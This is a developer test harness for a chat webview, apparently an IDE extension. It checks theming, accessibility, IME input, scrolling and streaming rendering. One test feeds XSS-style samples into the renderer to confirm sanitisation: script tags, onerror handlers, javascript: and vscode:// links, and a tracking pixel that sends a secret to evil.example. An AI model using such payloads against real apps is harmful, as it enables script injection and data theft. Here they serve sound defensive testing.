// Dev harness runner for the chat webview (not shipped, not the official UI tests).
//
//   npm run build && node test/webview-harness/run.mjs [--only=dark-narrow] [--serve]
//
// Bundles the fake extension (harness.mts), serves it with dist/webview.{js,css} on 127.0.0.1,
// opens it in Chromium in light, dark and high-contrast themes, narrow (side panel) and wide
// (editor tab), saves screenshots to test-results/webview/, and runs smoke checks: no console
// errors or CSP violations, streamed rendering equal to a whole render, linear rendering work,
// auto-scroll, IME-safe Enter, accessible names. `--serve` only serves, for a look by hand.
/* global window, document, requestAnimationFrame, performance, KeyboardEvent, getComputedStyle */
import * as esbuild from 'esbuild';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

const here = path.dirname(fileURLToPath(import.meta.url));
const root = path.resolve(here, '../..');
const out = path.join(root, 'test-results', 'webview');
const bundleDir = path.join(root, 'test-results', 'webview-harness');
const args = process.argv.slice(2);
const only = args.find((a) => a.startsWith('--only='))?.slice(7);

const TYPES = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.json': 'application/json', '.map': 'application/json' };

function serve() {
  const routes = [
    ['/dist/', path.join(root, 'dist')],
    ['/harness/', bundleDir],
    ['/l10n/', path.join(root, 'l10n')],
  ];
  const server = http.createServer((req, res) => {
    const url = new URL(req.url, 'http://localhost');
    if (url.pathname === '/favicon.ico') {
      res.writeHead(204).end();
      return;
    }
    let file = url.pathname === '/' ? path.join(here, 'index.html') : undefined;
    for (const [prefix, dir] of routes) {
      if (url.pathname.startsWith(prefix)) file = path.join(dir, decodeURIComponent(url.pathname.slice(prefix.length)));
    }
    if (!file || !file.startsWith(root) || !fs.existsSync(file) || !fs.statSync(file).isFile()) {
      res.writeHead(404).end('not found');
      return;
    }
    res.writeHead(200, { 'content-type': TYPES[path.extname(file)] ?? 'application/octet-stream', 'cache-control': 'no-store' });
    fs.createReadStream(file).pipe(res);
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

const failures = [];
function check(ok, what) {
  console.log(`${ok ? '  ✔' : '  ✘'} ${what}`);
  if (!ok) failures.push(what);
}

async function main() {
  for (const f of ['dist/webview.js', 'dist/webview.css']) {
    if (!fs.existsSync(path.join(root, f))) throw new Error(`${f} is missing: run \`npm run build\` first`);
  }
  fs.mkdirSync(out, { recursive: true });
  await esbuild.build({
    entryPoints: [path.join(here, 'harness.mts')],
    outfile: path.join(bundleDir, 'harness.js'),
    bundle: true,
    format: 'iife',
    platform: 'browser',
    target: ['chrome114'],
    logLevel: 'warning',
  });
  const server = await serve();
  const base = `http://127.0.0.1:${server.address().port}/`;
  console.log(`harness at ${base}`);
  if (args.includes('--serve')) return;

  const profile = fs.mkdtempSync(path.join(os.tmpdir(), 'hunyuan-harness-'));
  const context = await chromium.launchPersistentContext(profile, {
    executablePath: '/usr/bin/chromium',
    headless: true,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync', '--disable-dev-shm-usage'],
    viewport: { width: 400, height: 900 },
    deviceScaleFactor: 1,
  });
  try {
    await run(context, base);
  } finally {
    await context.close();
    server.close();
    fs.rmSync(profile, { recursive: true, force: true });
  }
  if (failures.length) {
    console.error(`\n${failures.length} check(s) failed`);
    process.exitCode = 1;
  } else {
    console.log('\nall checks passed');
  }
}

const WIDTHS = { narrow: { width: 380, height: 860 }, wide: { width: 1100, height: 860 } };

async function open(context, base, { theme = 'dark', width = 'narrow', scenario = 'full', lang = 'en' } = {}) {
  const page = await context.newPage();
  const errors = [];
  page.on('console', (m) => {
    if (m.type() === 'error') errors.push(m.text());
  });
  page.on('pageerror', (e) => errors.push(String(e)));
  await page.setViewportSize(WIDTHS[width]);
  await page.goto(`${base}?theme=${theme}&scenario=${scenario}&lang=${lang}`);
  await page.waitForSelector('[data-testid="input-bar"]');
  await page.waitForTimeout(150);
  return { page, errors };
}

async function shot(page, name) {
  await page.waitForTimeout(80);
  await page.screenshot({ path: path.join(out, `${name}.png`) });
}

async function clean(page, errors, label) {
  const csp = await page.evaluate(() => window.harness.cspViolations);
  check(errors.length === 0 && csp.length === 0, `${label}: no console errors or CSP violations ${[...errors, ...csp].join(' | ')}`);
}

/** `--perf`: streams long answers of several shapes and reports time and rendering work. */
async function perf(context, base) {
  const { page } = await open(context, base, { theme: 'dark', width: 'wide', scenario: 'empty' });
  const shapes = {
    mixed: (n) => Array.from({ length: n }, (_, i) => `## Step ${i}\n\nSome text with **bold** and \`code\` 中文。\n\n\`\`\`ts\nconst a${i} = [${i}, ${i + 1}];\nconsole.log(a${i}.map((x) => x * 2));\n\`\`\`\n\n| k | v |\n|---|---|\n| ${i} | ${i} |\n`).join('\n'),
    oneList: (n) => Array.from({ length: n }, (_, i) => `${i + 1}. **Item ${i}**\n\n   Explanation of the item, with \`code\` and more words to make it longer.\n\n   \`\`\`py\n   print(${i})\n   \`\`\`\n`).join('\n'),
    oneFence: (n) => `\`\`\`ts\n${Array.from({ length: n * 6 }, (_, i) => `const line${i} = compute(${i}); // comment ${i}`).join('\n')}\n\`\`\`\n`,
  };
  for (const [name, make] of Object.entries(shapes)) {
    for (const n of [50, 200]) {
      const r = await page.evaluate(async ([src, count]) => {
        const makeAnswer = new Function('n', `return (${src})(n)`);
        const answer = makeAnswer(count);
        const h = window.harness;
        const stats = window.__hunyuanChatStats;
        const before = JSON.parse(JSON.stringify(stats));
        const t0 = performance.now();
        let worst = 0;
        h.startStream({ thinking: '', answer });
        while (h.snapshot().streamingId) {
          const f0 = performance.now();
          h.step(40);
          await new Promise((r) => requestAnimationFrame(r));
          worst = Math.max(worst, performance.now() - f0);
        }
        return {
          chars: answer.length,
          ms: Math.round(performance.now() - t0),
          worstFrameMs: Math.round(worst),
          parsedPerChar: ((stats.markdown.parsedChars - before.markdown.parsedChars) / answer.length).toFixed(2),
          highlightedPerChar: ((stats.highlight.chars - before.highlight.chars) / answer.length).toFixed(2),
          tailRenders: stats.stream.tailRenders - before.stream.tailRenders,
        };
      }, [make.toString(), n]);
      console.log(`  ${name} ×${n}: ${JSON.stringify(r)}`);
    }
  }
  await page.close();
}

async function run(context, base) {
  if (args.includes('--perf')) {
    await perf(context, base);
    return;
  }
  // Screenshots in each theme and width.
  for (const theme of ['dark', 'light', 'hc']) {
    for (const width of ['narrow', 'wide']) {
      const name = `${theme}-${width}`;
      if (only && only !== name) continue;
      console.log(name);
      const { page, errors } = await open(context, base, { theme, width });
      await shot(page, `${name}-bottom`);
      await page.evaluate(() => {
        document.querySelector('[data-testid="message-list"]').scrollTop = 0;
      });
      await shot(page, `${name}-top`);
      await page.click('[data-testid="conversation-menu-button"]');
      await shot(page, `${name}-menu`);
      await page.keyboard.press('Escape');
      if (await page.isVisible('[data-testid="jump-to-latest"]')) await page.click('[data-testid="jump-to-latest"]');
      // Streaming: thinking, then the middle of the answer, then done.
      await page.evaluate(() => {
        window.harness.startStream();
        for (let i = 0; i < 12; i++) window.harness.step(8);
      });
      await page.waitForTimeout(1200);
      await shot(page, `${name}-stream-thinking`);
      await page.evaluate(() => {
        for (let i = 0; i < 60; i++) window.harness.step(8);
      });
      await page.waitForTimeout(120);
      await shot(page, `${name}-stream-answer`);
      await page.evaluate(() => window.harness.streamAll(50));
      await page.waitForTimeout(150);
      await shot(page, `${name}-stream-done`);
      await clean(page, errors, name);
      await page.close();
    }
  }
  if (only) return;

  for (const [scenario, theme, width, lang] of [['empty', 'light', 'narrow', 'en'], ['nokey', 'dark', 'narrow', 'en'], ['full', 'dark', 'wide', 'zh'], ['full', 'light', 'narrow', 'zh'], ['overflow', 'dark', 'narrow', 'en'], ['toolong', 'light', 'narrow', 'zh']]) {
    const name = `${scenario}-${theme}-${width}-${lang}`;
    console.log(name);
    const { page, errors } = await open(context, base, { theme, width, scenario, lang });
    await shot(page, name);
    await clean(page, errors, name);
    await page.close();
  }

  console.log('behaviour');
  await behaviour(context, base);
}

async function behaviour(context, base) {
  const { page, errors } = await open(context, base, { theme: 'dark', width: 'narrow' });
  const posted = (method) => page.evaluate((m) => window.harness.posted.filter((e) => e.method === m).length, method);

  // Accessible names and tab order.
  const unnamed = await page.evaluate(() => [...document.querySelectorAll('button')].filter((b) => !(b.getAttribute('aria-label') || b.textContent.trim())).length);
  check(unnamed === 0, 'every button has an accessible name');
  const log = await page.evaluate(() => {
    const l = document.querySelector('[data-testid="message-list"]');
    return l.getAttribute('role') === 'log' && l.getAttribute('aria-live') === 'polite';
  });
  check(log, 'the message list is a polite ARIA log');

  // IME: Enter while composing must not send; Enter sends; Shift+Enter does not.
  await page.fill('[data-testid="chat-input"]', '你好');
  await page.evaluate(() => {
    const ta = document.querySelector('[data-testid="chat-input"]');
    ta.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }));
    ta.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', keyCode: 229, bubbles: true, cancelable: true }));
  });
  check((await posted('chat/send')) === 0, 'Enter during an IME composition does not send');
  await page.focus('[data-testid="chat-input"]');
  await page.keyboard.press('Shift+Enter');
  check((await posted('chat/send')) === 0, 'Shift+Enter does not send');
  await page.keyboard.press('Enter');
  check((await posted('chat/send')) === 1, 'Enter sends');
  await page.waitForTimeout(200);
  check(await page.evaluate(() => document.querySelector('[data-testid="send-button"]').dataset.mode === 'stop'), 'Send becomes Stop while streaming');
  await page.evaluate(() => window.harness.stopTimer());

  // Auto-scroll: scrolling up stops following and shows Jump to Latest; the button resumes.
  await page.evaluate(async () => {
    for (let i = 0; i < 30; i++) window.harness.step(12);
    await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
  });
  const atBottom = () => page.evaluate(() => {
    const l = document.querySelector('[data-testid="message-list"]');
    return l.scrollHeight - l.scrollTop - l.clientHeight <= 4;
  });
  check(await atBottom(), 'follows the stream at the bottom');
  await page.mouse.move(190, 300);
  await page.mouse.wheel(0, -400);
  await page.waitForTimeout(150);
  await page.evaluate(async () => {
    for (let i = 0; i < 20; i++) window.harness.step(12);
    await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
  });
  check(!(await atBottom()), 'scrolling up stops following');
  check(await page.isVisible('[data-testid="jump-to-latest"]'), 'Jump to Latest appears');
  await page.click('[data-testid="jump-to-latest"]');
  await page.waitForTimeout(100);
  check(await atBottom(), 'Jump to Latest goes to the bottom');
  check(!(await page.isVisible('[data-testid="jump-to-latest"]')), 'and hides again');

  // Keyboard only: Shift+Tab from the input reaches the answer's controls, with a visible ring.
  await page.focus('[data-testid="chat-input"]');
  for (let i = 0; i < 3; i++) await page.keyboard.press('Shift+Tab');
  const focused = await page.evaluate(() => {
    const el = document.activeElement;
    return { label: el?.getAttribute('aria-label') || el?.textContent, outline: getComputedStyle(el).outlineStyle };
  });
  check(!!focused.label && focused.outline !== 'none', `keyboard focus is visible (${JSON.stringify(focused)})`);
  await shot(page, 'keyboard-focus-dark-narrow');

  // Escape stops.
  await page.focus('[data-testid="chat-input"]');
  await page.keyboard.press('Escape');
  check((await posted('chat/stop')) === 1, 'Escape stops the answer');
  await page.waitForTimeout(100);
  check(await page.isVisible('[data-testid="stopped-badge"] >> nth=-1'), 'a stopped answer shows "Stopped"');

  // Code block toolbar → RunCodeAction with the raw code.
  await page.click('[data-turn-id="a1"] [data-testid="code-copy"]');
  const action = await page.evaluate(() => window.harness.posted.filter((e) => e.method === 'chat/codeAction').pop()?.params);
  check(action?.action === 'copy' && action.turnId === 'a1' && action.blockIndex === 0 && /^\d+:[0-9a-f]+$/.test(action.shown) && !('code' in action),
    'Copy sends RunCodeAction with the block and the fingerprint of its code (the extension has the code)');
  await page.click('[data-turn-id="a1"] [data-block-index="1"] [data-testid="code-insert"]');
  const action2 = await page.evaluate(() => window.harness.posted.filter((e) => e.method === 'chat/codeAction').pop()?.params);
  check(action2?.blockIndex === 1 && action2.shown !== action.shown, 'the nested code block is block 1');

  // Links are intercepted.
  await page.click('[data-turn-id="a1"] a[href^="https://developer.mozilla.org"]');
  check((await posted('chat/openLink')) === 1 && page.url().startsWith('http://127.0.0.1'), 'links go to OpenLink and never navigate');

  // Edit & resend, Escape cancels.
  await page.hover('[data-turn-id="u2"]');
  await page.click('[data-turn-id="u2"] [data-testid="edit-button"]');
  await page.keyboard.press('Escape');
  check(!(await page.isVisible('[data-testid="edit-textarea"]')), 'Escape cancels editing');

  await clean(page, errors, 'behaviour');
  await page.close();

  await longFence(context, base);
  await untrustedOutput(context, base);
  await streamingEqualsWhole(context, base);
  await linearWork(context, base);
}

/** A long code block while it streams: highlighted in chunks, laid out without gaps. */
async function longFence(context, base) {
  const { page, errors } = await open(context, base, { theme: 'dark', width: 'wide', scenario: 'empty' });
  const lines = Array.from({ length: 140 }, (_, i) => (i % 9 === 8 ? '' : `    result_${i} = compute(${i}, "text")  # step ${i}`));
  const code = ['Here is the script:', '', '```python', 'def main():', '    """Entry point.', '', '    Multi-line docstring."""', ...lines, '```', '', 'Done.'].join('\n');
  const r = await page.evaluate(async (answer) => {
    const h = window.harness;
    const s = h.startStream({ thinking: '', answer });
    for (let i = 0; i < 140; i++) {
      h.step(40);
      if (i % 10 === 0) await new Promise((res) => requestAnimationFrame(res));
    }
    await new Promise((res) => requestAnimationFrame(() => requestAnimationFrame(res)));
    const code = document.querySelector(`[data-turn-id="${s.turn.id}"] .code-block.streaming code`);
    const shown = code?.textContent ?? '';
    const at = answer.indexOf('def main');
    return { chunks: code?.querySelectorAll('.code-chunk').length ?? 0, length: shown.length, intact: answer.slice(at, at + shown.length) === shown };
  }, code);
  check(r.chunks > 2 && r.intact && r.length > 2000, `a long open code block streams in highlighted chunks, text intact (${JSON.stringify(r)})`);
  await shot(page, 'long-fence-streaming-dark-wide');
  await page.evaluate(() => window.harness.streamAll(200));
  await page.waitForTimeout(100);
  await clean(page, errors, 'long fence');
  await page.close();
}

/** Model output is untrusted: nothing active, no styles, no spoofed ids, no unsafe links, no remote images. */
async function untrustedOutput(context, base) {
  const { page, errors } = await open(context, base, { theme: 'dark', width: 'wide' });
  const evil = [
    'Here you go:',
    '<script>window.__pwned = 1</script>',
    '<img src="x" onerror="window.__pwned = 2">',
    '<iframe src="https://example.com"></iframe>',
    '<form action="https://evil.example"><input name="q"><button>go</button></form>',
    '<div style="position:fixed;inset:0" data-testid="send-button" id="app" class="code-block">overlay</div>',
    '',
    '[click](javascript:window.__pwned=3) [cmd](command:workbench.action.openSettings) [vs](vscode://file/etc/passwd) [ok](https://example.com)',
    '',
    '<svg><script>window.__pwned=4</script></svg><math><mi>x</mi></math>',
    '',
    '![tracker](https://evil.example/pixel.png?secret=1)',
    '',
    '- [x] done',
    '- [ ] <input type="text" value="typed">',
  ].join('\n');
  const r = await page.evaluate(async (answer) => {
    const h = window.harness;
    const s = h.startStream({ thinking: '', answer });
    h.streamAll(9);
    await new Promise((res) => setTimeout(res, 150));
    const el = document.querySelector(`[data-turn-id="${s.turn.id}"] [data-testid="answer"]`);
    const all = [...el.querySelectorAll('*')];
    return {
      pwned: window.__pwned,
      active: el.querySelectorAll('script, iframe, form, svg, math, style, object, embed, button:not(.icon-button)').length,
      attrs: all.flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith('on') || n === 'style' || n === 'id'),
      spoofed: el.querySelectorAll('[data-testid="send-button"], .code-block:not([data-block-index])').length,
      hrefs: [...el.querySelectorAll('a')].map((a) => a.getAttribute('href')),
      images: [...el.querySelectorAll('img')].map((i) => i.getAttribute('src')),
      inputs: [...el.querySelectorAll('input')].map((i) => `${i.type}:${i.disabled}`),
    };
  }, evil);
  check(r.pwned === undefined && r.active === 0 && r.attrs.length === 0, `no active content or styles in model output ${JSON.stringify(r)}`);
  check(r.spoofed === 0, 'model output cannot spoof test ids or our classes');
  check(!r.hrefs.some((h) => h && /^(javascript|command|vscode):/i.test(h)) && r.hrefs.includes('https://example.com'), `only safe link targets ${JSON.stringify(r.hrefs)}`);
  check(r.images.length === 0, 'remote images are shown as links, never loaded');
  check(r.inputs.every((i) => i === 'checkbox:true') && r.inputs.length >= 1, `only disabled task checkboxes ${JSON.stringify(r.inputs)}`);
  await clean(page, errors, 'untrusted output');
  await page.close();
}

/** A streamed answer, in small random chunks, ends as the same DOM as the same answer rendered at once. */
async function streamingEqualsWhole(context, base) {
  const { page, errors } = await open(context, base, { theme: 'light', width: 'wide' });
  const streamed = await page.evaluate(async () => {
    const h = window.harness;
    const answer = h.state.conversation.turns[1].answer + '\n\n' + h.state.conversation.turns[3].answer;
    const s = h.startStream({ thinking: 'short thought', answer });
    let seed = 7;
    while (h.snapshot().streamingId) {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      h.step(1 + (seed % 23));
      if (seed % 5 === 0) await new Promise((r) => requestAnimationFrame(r));
    }
    await new Promise((r) => setTimeout(r, 50));
    const el = document.querySelector(`[data-turn-id="${s.turn.id}"] [data-testid="answer"]`);
    return { html: el.innerHTML, turn: s.turn };
  });
  const whole = await page.evaluate(async (turn) => {
    const h = window.harness;
    const snap = h.snapshot();
    snap.conversation.turns = [{ ...turn, id: 'whole' }];
    h.notify('chat/snapshot', snap);
    await new Promise((r) => setTimeout(r, 100));
    return document.querySelector('[data-turn-id="whole"] [data-testid="answer"]').innerHTML;
  }, streamed.turn);
  check(streamed.html === whole, 'a streamed answer ends identical to the whole render');
  await clean(page, errors, 'streaming');
  await page.close();
}

/** Rendering work per character stays flat when the answer gets 4× longer. */
async function linearWork(context, base) {
  const { page } = await open(context, base, { theme: 'dark', width: 'wide', scenario: 'empty' });
  const measure = (copies) => page.evaluate(async (n) => {
    const h = window.harness;
    const stats = window.__hunyuanChatStats;
    const before = { parsed: stats.markdown.parsedChars, sanitized: stats.sanitize.chars, highlighted: stats.highlight.chars };
    const base = h.state.conversation.turns.length ? '' : '';
    const answer = Array.from({ length: n }, (_, i) => `## Part ${i + 1}\n\n${document.title}\n\n1. first\n\n   more\n\n2. second\n\n\`\`\`ts\nconst x${i} = ${i};\nfunction f${i}() { return x${i} * 2; }\n\`\`\`\n\n| a | b |\n|---|---|\n| ${i} | ${i * 2} |\n\nText 中文 text **bold** \`code\`.\n`).join('\n') + base;
    const t0 = performance.now();
    h.startStream({ thinking: '', answer });
    while (h.snapshot().streamingId) {
      h.step(16);
      await new Promise((r) => requestAnimationFrame(r));
    }
    await new Promise((r) => setTimeout(r, 50));
    return {
      length: answer.length,
      ms: performance.now() - t0,
      parsed: stats.markdown.parsedChars - before.parsed,
      sanitized: stats.sanitize.chars - before.sanitized,
      highlighted: stats.highlight.chars - before.highlighted,
    };
  }, copies);
  const small = await measure(10);
  const large = await measure(40);
  const per = (r) => ({ parsed: (r.parsed / r.length).toFixed(2), sanitized: (r.sanitized / r.length).toFixed(2), highlighted: (r.highlighted / r.length).toFixed(2) });
  console.log(`    ${small.length} chars: ${JSON.stringify(per(small))}; ${large.length} chars: ${JSON.stringify(per(large))}`);
  check(large.parsed / large.length < 1.3 * (small.parsed / small.length) + 0.2, 'Markdown parsed per character stays flat (linear work)');
  check(large.sanitized / large.length < 1.3 * (small.sanitized / small.length) + 0.2, 'HTML sanitized per character stays flat');
  await page.close();
}

main().catch((e) => {
  console.error(e);
  process.exit(1);
});
